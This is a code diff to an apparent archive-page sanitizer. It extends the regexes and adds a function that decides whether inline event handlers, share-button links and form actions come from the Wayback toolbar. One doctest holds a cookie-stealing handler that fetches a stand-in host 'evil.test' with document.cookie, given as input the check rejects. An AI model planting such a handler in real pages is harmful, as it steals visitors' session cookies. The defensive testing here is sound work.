@@ -104,15 +104,16 @@ _FREE_ATTRIBUTES = frozenset(
     "align alt async border cellpadding cellspacing charset class colspan crossorigin defer "
     "dir for frameborder height id itemprop lang maxlength method name nowrap placeholder "
     "readonly rel role rowspan scrolling size tabindex target title type valign value "
-    "width autocomplete accesskey hidden spellcheck toolbar-mode".split())
+    "width autocomplete accesskey hidden spellcheck toolbar-mode source".split())
 _LOADED_ATTRIBUTES = frozenset(("src", "srcset", "href", "action"))
 _TAG = re.compile(r"""<(/?)([A-Za-z][A-Za-z0-9-]{0,64})((?:[^>"']|"[^"]*"|'[^']*')*)>""")
 _COMMENT = re.compile(r"<!--(?:>|->|.*?--!?>)", re.S)
 _ATTRIBUTE = re.compile(r"""[\s/]*([^\s/>="'<]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|"""
                         r"""([^\s"'=<>`]+)))?""")
-_HANDLER = re.compile(r"\s*(?:(?:this\.(?:focus|select|blur)\(\)|__wm\.\w+\((?:event)?\)|"
-                      r"return\s+(?:false|true))\s*(?:;\s*)?)+")
-_STATIC_PATH = re.compile(r"/(?:(?:_?static|includes)/[\w./-]*|web/submit)(?:[?#][^\s]*)?")
+_STATIC_PATH = re.compile(r"/(?:_?static|includes)/[\w./-]*(?:[?#][^\s]*)?")
+# where the toolbar's search form sends the URL typed in it (`action` only: as a frame's
+# `src`, `/web/submit?url=…` is the archive's copy of another site's page)
+_SUBMIT = re.compile(r"(?i)(?:(?:https?:)?//(?:web\.)?archive\.org)?/web/submit(?:[?#]\S*)?")
 _ARCHIVE_FILES = re.compile(r"/(?:_static|static|includes|services/img)/")  # on archive.org
 _PYWB_FILE = re.compile(r"(?i)(?:https?:)?//([^/?#\\:@]+)(?::\d{1,5})?/static/(?:wombat|"
                         r"wombatProxyMode|wombatWorkers|default_banner|vue/vue_banner|wb_frame|"
@@ -132,6 +133,14 @@ _LIST = rf"\s*(?:{_LITERAL}\s*(?:,\s*{_LITERAL}\s*)*(?:,\s*)?)?"  # commas requi
 _ITEM = rf"(?:{_LITERAL}|\[{_LIST}\])"
 _ARGS = rf"\s*(?:{_ITEM}\s*(?:,\s*{_ITEM}\s*)*(?:,\s*)?)?"
 _PAIR = rf"{_LITERAL}\s*:\s*{_LITERAL}"
+# the toolbar's handlers: focusing its field, calling the archive's code with the event, the
+# element or literals (2015's `__wm.mv(event,this)`, 2018's `__wm.saveSnapshot('<url>', '<time>')`),
+# and 2018's share buttons opening the share box's page (`_handler_archives` reads the hosts)
+_CALL_ARG = rf"(?:event|this|{_LITERAL})"
+_SHARE_OPEN = r"window\.open\(\s*'https://([A-Za-z0-9.-]{1,253})/[^'\\\n]*'\s*,\s*''\s*,\s*'[\w=,]*'\s*\)"
+_HANDLER = re.compile(r"\s*(?:(?:this\.(?:focus|select|blur)\(\)|"
+                      rf"__wm\.\w+\((?:{_CALL_ARG}(?:\s*,\s*{_CALL_ARG})*)?\)|{_SHARE_OPEN}|"
+                      r"return\s+(?:false|true))\s*(?:;\s*)?)+")
 _STATEMENTS = re.compile(
     r"(?:\s|;|//<!\[CDATA\[|//\]\]>|"
     rf"(?:__wm|__wbhack)\.\w+\({_ARGS}\)|"
@@ -478,11 +487,14 @@ def _attributes_archives(name: str, written: str, own: frozenset[str], named: fr
             if not _css_archives(value, own, rooted):
                 return False
         elif attribute.startswith("on"):
-            if not _HANDLER.fullmatch(value):
+            if not _handler_archives(value, named):
                 return False
-        elif attribute == "href" and name in ("a", "area"):
+        elif attribute == "data-url" or (attribute == "href" and name in ("a", "area")):
             if not _links_archives(value, named):
                 return False
+        elif attribute == "action" and _SUBMIT.fullmatch(value.strip()) and (
+                rooted or value.strip().startswith(("http", "//"))):
+            continue
         elif attribute in _LOADED_ATTRIBUTES:
             urls = [u.split()[0] for u in value.split(",") if u.strip()] if (
                 attribute == "srcset") else [value]
@@ -491,6 +503,27 @@ def _attributes_archives(name: str, written: str, own: frozenset[str], named: fr
         else:
             return False
     return not written[pos:].strip(" \t\n\r\f/")
+
+
+def _handler_archives(code: str, named: frozenset[str]) -> bool:
+    """Whether an event handler is the toolbar's (`_HANDLER`): a share button opens a share
+    box's page, and the URLs it names are the archive's, the page's or the share box's.
+
+    >>> named = frozenset({"archive.org", "a.test"})
+    >>> _handler_archives("__wm.saveSnapshot('https://a.test/', '20180707155901')", named)
+    True
+    >>> _handler_archives("window.open('https://evil.test/x', '', 'width=600')", named)
+    False
+    >>> _handler_archives("__wm.h(event);fetch('//evil.test/'+document.cookie)", named)
+    False
+    """
+    if not _HANDLER.fullmatch(code):
+        return False
+    if not all(any((m.group(1).lower() == h or m.group(1).lower().endswith("." + h))
+                   for h in _SHARE_HOSTS) for m in re.finditer(_SHARE_OPEN, code)):
+        return False
+    return all(any((h := m.group(1).lower().rstrip(".")) == n or h.endswith("." + n)
+                   for n in (*named, *_SHARE_HOSTS)) for m in _STRING_HOST.finditer(code))
 
 
 def _loads_archives(url: str, own: frozenset[str], rooted: bool = True) -> bool:
